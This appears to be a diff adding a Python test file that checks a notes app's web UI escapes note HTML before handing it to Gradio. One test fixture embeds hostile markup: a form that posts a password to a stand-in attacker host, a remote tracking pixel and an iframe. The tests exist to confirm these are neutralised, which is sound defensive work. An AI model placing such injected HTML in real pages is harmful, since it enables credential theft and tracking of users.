@@ -1,0 +1,55 @@
+"""What the web UI renders from notes and answers (no browser: the HTML it hands to Gradio)."""
+
+from notebot.apps.ui import _api_input_problem, _text, highlight, highlight_terms, relevance, render_answer, render_sources
+from notebot.records import Answer, Chunk, Hit
+
+HOSTILE = ('S3 加密：SSE-KMS <form action="http://evil.example/steal"><input type="password"></form> '
+           '![pixel](http://evil.example/p.png) <iframe src="http://evil.example/f"></iframe> A &amp; B')
+
+
+def answer_quoting(text: str) -> Answer:
+    chunk = Chunk(id="c1", file="s3.md", headings=("S3",), line_start=3, line_end=3, text=text)
+    return Answer(question="S3 加密", text=f"根据你的笔记：\n\n- {text} [1]\n\n```\na\n\nb\n```", lang="zh",
+                  refused=False, hits=[Hit(chunk, 0.03, 1)], answerer="extractive")
+
+
+def test_note_html_in_an_answer_becomes_text_and_images_their_description():
+    rendered = render_answer(answer_quoting(HOSTILE))
+    assert "<form" not in rendered and "<input" not in rendered and "<iframe" not in rendered
+    assert "&lt;form action=" in rendered and "[图片 image: pixel]" in rendered
+    assert "http://evil.example/p.png" not in rendered
+    assert '<a class="nb-cite" href="#src-1">[1]</a>' in rendered
+    assert "\n" not in rendered, "one line: the chat's markdown renderer takes it as one HTML block"
+
+
+def test_chat_history_reads_the_answer_back_as_plain_text():
+    assert _text(render_answer(answer_quoting("A < B"))).startswith("根据你的笔记：")
+    assert "A < B [1]" in _text(render_answer(answer_quoting("A < B")))
+
+
+def test_sources_show_note_html_as_text_and_no_remote_images():
+    sources = render_sources(answer_quoting(HOSTILE), "S3 加密")
+    assert "<form" not in sources and "<img" not in sources and "evil.example/p.png" not in sources
+
+
+def test_highlighting_skips_particle_bigrams_and_never_marks_inside_entities():
+    terms = highlight_terms("数据湖的数据怎么加密")
+    assert "数据" in terms and "加密" in terms
+    assert not {"的数", "湖的", "怎么", "么加"} & set(terms)
+    assert highlight("<p>A &amp; B amp</p>", ["amp"]) == "<p>A &amp; B <mark>amp</mark></p>"
+
+
+def test_relevance_is_a_label_relative_to_the_best_passage():
+    assert "最相关 best match" in relevance(0.032, 0.032)
+    assert "很相关 close" in relevance(0.9, 1.0) and "较弱 weak" in relevance(0.2, 1.0)
+    assert 'width:50%' in relevance(4.0, 8.0)
+
+
+def test_api_inputs_are_checked_with_a_clear_message():
+    assert _api_input_problem("S3 多大？", 5, "hybrid") == ""
+    assert "non-empty string" in _api_input_problem("  ", 5, "hybrid")
+    assert "non-empty string" in _api_input_problem(None, 5, "hybrid")
+    assert "from 1 to 20" in _api_input_problem("q", 10**9, "hybrid")
+    assert "from 1 to 20" in _api_input_problem("q", True, "hybrid")
+    assert "from 1 to 20" in _api_input_problem("q", 2.5, "hybrid")
+    assert "mode must be one of" in _api_input_problem("q", 5, ["hybrid"])
